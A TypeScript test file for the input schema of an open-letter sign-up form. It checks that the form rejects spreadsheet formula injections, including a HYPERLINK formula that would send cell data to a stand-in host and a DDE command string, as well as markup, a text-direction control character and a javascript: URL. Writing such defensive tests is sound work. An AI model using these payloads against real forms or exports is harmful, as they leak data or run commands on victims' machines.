import { describe, expect, it } from 'vitest';
import { signInput, normalizeWebsite } from '#lib/signing/sign-input.ts';
import { hasWebAddress } from '#lib/signing/web-address.ts';

const valid = {
  letter: 'keep-kazakhstan-online',
  organization: '  Adil Soz  ',
  country: 'KZ',
  website: 'adilsoz.kz',
  orgType: 'media',
  statement: 'Line one\nline two',
  listing: 'named',
  contactName: 'Tamara',
  contactRole: 'Director',
  email: 'tamara@adilsoz.kz',
  consent: 'on',
};

const errorFor = (input: Record<string, unknown>) => {
  const result = signInput.safeParse(input);
  return result.success ? undefined : result.error.issues.map((issue) => `${issue.path.join('.')}: ${issue.message}`);
};

describe('the sign form’s schema', () => {
  it('accepts a good sign-up, trimming text and completing the website', () => {
    const parsed = signInput.parse(valid);
    expect(parsed.organization).toBe('Adil Soz');
    expect(parsed.website).toBe('https://adilsoz.kz/');
    expect(parsed.statement).toBe('Line one\nline two');
  });
  it('treats empty optional fields as absent', () => {
    expect(signInput.parse({ ...valid, website: '', statement: '   ' })).toMatchObject({ website: undefined, statement: undefined });
  });
  it.each([
    [{ organization: undefined }, 'organization: form.error.required'],
    [{ organization: 42 }, 'organization: form.error.required'],
    [{ organization: '   ' }, 'organization: form.error.required'],
    [{ contactName: 'x'.repeat(121) }, 'contactName: form.error.tooLong'],
    [{ organization: 'Tab\there' }, 'organization: form.error.control'],
    [{ organization: 'evil\u202Etxt' }, 'organization: form.error.control'],
    [{ statement: '<img src=x>' }, 'statement: form.error.markup'],
    [{ email: 'not-an-email' }, 'email: form.error.email'],
    [{ website: 'ftp://files.kz' }, 'website: form.error.website'],
    [{ website: 'https://user:pass@site.kz' }, 'website: form.error.website'],
    [{ country: 'ZZ' }, 'country: form.error.choice'],
    [{ consent: undefined }, 'consent: form.error.consent'],
    [{ consent: 'yes' }, 'consent: form.error.consent'],
  ])('refuses %o', (change, expected) => {
    expect(errorFor({ ...valid, ...change })).toContain(expected);
  });
  it.each([
    ['organization', '=HYPERLINK("https://evil.example/?"&A2,\n"Open")'],
    ['organization', '+Plus Org'],
    ['organization', '@SUM(1+1)'],
    ['statement', '=HYPERLINK("https://evil.example/?"&A2,\n"Open")'],
    ['statement', '-2+3 and then\nsome'],
    ['statement', '  \t=1+1'],
    ['contactName', '=cmd|\' /C calc\'!A0'],
    ['contactRole', '-Director'],
  ])('refuses a %s that a spreadsheet would run as a formula: %j', (field, value) => {
    expect(errorFor({ ...valid, [field]: value })).toContain(`${field}: form.error.formula`);
  });
  it('keeps a formula character anywhere but first', () => {
    expect(signInput.parse({ ...valid, organization: 'Adil Soz +', statement: 'One\n=two', contactRole: 'Director - Almaty' })).toMatchObject({ statement: 'One\n=two' });
  });
  it.each([
    'Visit http://evil.example now',
    'HTTPS://EVIL.EXAMPLE',
    'hxxp://evil.example',
    'Cheap pills www.pills.example',
    'WWW.pills',
    'Go to evil.example/path',
    'evil.example?x=1',
    'evil.example:8080',
    'Cheap pills at pills.com',
    'info@pills-shop.kz',
    'Vlast.kz',
    'пример.рф',
    'ｅｖｉｌ．ｃｏｍ',
    'evil。com',
    '203.0.113.9',
  ])('refuses an organization name holding a web address: %j', (organization) => {
    expect(errorFor({ ...valid, organization })).toContain('organization: form.error.webAddress');
  });
  it.each(['St.Petersburg Human Rights Centre', 'School No.1', 'U.S. Friends of Kazakhstan', 'Adil Soz.', 'Dr. Aliyev Foundation', 'Internews (Kazakhstan)', 'A.B.C. Media'])(
    'accepts an organization name with dots that is no address: %j',
    (organization) => {
      expect(errorFor({ ...valid, organization })).toBeUndefined();
    },
  );
  it('looks for web addresses in time proportional to the text, also in 20,000 characters of junk', () => {
    // A pattern of labels and dots backtracks quadratically: 20,000 letters took most of a second.
    const started = performance.now();
    for (const unit of ['x', 'a.', 'x:', 'я.', '1.', 'w.', 'a-']) expect(hasWebAddress(unit.repeat(20_000 / unit.length))).toBe(false);
    expect(performance.now() - started).toBeLessThan(300);
  });
  it('refuses fields it does not know', () => {
    expect(errorFor({ ...valid, status: 'published' })?.join()).toMatch(/Unrecognized key/i);
  });
  it('normalizes website addresses', () => {
    expect(normalizeWebsite('ngo.kz/about')).toBe('https://ngo.kz/about');
    expect(normalizeWebsite('http://ngo.kz')).toBe('http://ngo.kz/');
    expect(normalizeWebsite('localhost')).toBeNull();
    expect(normalizeWebsite('javascript:alert(1)')).toBeNull();
  });
});
